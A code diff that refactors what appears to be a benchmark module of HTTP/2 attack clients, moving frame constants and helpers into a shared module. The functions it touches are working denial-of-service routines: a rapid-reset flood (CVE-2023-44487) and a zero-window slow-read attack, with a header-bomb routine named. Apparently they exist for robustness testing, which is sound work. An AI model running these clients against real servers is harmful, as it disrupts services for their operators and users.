@@ -5,11 +5,22 @@ from __future__ import annotations
 import asyncio
 import struct
 
-PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
-END_STREAM, END_HEADERS = 1, 4
-INITIAL_WINDOW = 4
-MAX_STREAM = 2**31 - 1
+from benchmarks import http2
+from benchmarks.http2 import (
+    CONTINUATION,
+    DATA,
+    END_HEADERS,
+    END_STREAM,
+    HEADERS,
+    INITIAL_WINDOW_SIZE,
+    MAX_NUMBER,
+    PING,
+    PREFACE,
+    RST_STREAM,
+    SETTINGS,
+    frame,
+)
+
 # Indexed fields, and literals with indexed names: GET or POST, http, path, authority.
 GET = b"\x82\x86\x04\x07/health\x01\x01x"
 LARGEST = b"\x82\x86\x04\x0d/openapi.json\x01\x01x"
@@ -21,26 +32,19 @@ AGAIN = b"\xbe"
 BURST = 500
 
 
-def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
-    """One frame."""
-    size = len(payload)
-    return struct.pack(">BHBBL", size >> 16, size & 0xFFFF, kind, flags, stream) + payload
-
-
 async def _send(writer: asyncio.StreamWriter, *frames: bytes) -> None:
     writer.write(b"".join(frames))
     await writer.drain()
 
 
 async def _greet(writer: asyncio.StreamWriter, *settings: tuple[int, int]) -> None:
-    payload = b"".join(struct.pack(">HL", *setting) for setting in settings)
-    await _send(writer, PREFACE, frame(SETTINGS, 0, 0, payload))
+    await _send(writer, PREFACE, http2.settings(*settings))
 
 
 async def rapid_resets(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
     """Requests that are reset at once (CVE-2023-44487)."""
     await _greet(writer)
-    for first in range(1, MAX_STREAM, 2 * BURST):
+    for first in range(1, MAX_NUMBER, 2 * BURST):
         for stream in range(first, first + 2 * BURST, 2):
             writer.write(frame(HEADERS, END_HEADERS | END_STREAM, stream, GET))
             writer.write(frame(RST_STREAM, 0, stream, struct.pack(">L", 8)))
@@ -82,7 +86,7 @@ async def header_bombs(_: asyncio.StreamReader, writer: asyncio.StreamWriter) ->
 
 async def closed_windows(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
     """A hundred requests for the largest page, whose answers the client's window does not take."""
-    await _greet(writer, (INITIAL_WINDOW, 0))
+    await _greet(writer, (INITIAL_WINDOW_SIZE, 0))
     for stream in range(1, 201, 2):
         await _send(writer, frame(HEADERS, END_HEADERS | END_STREAM, stream, LARGEST))
     await asyncio.sleep(3600)
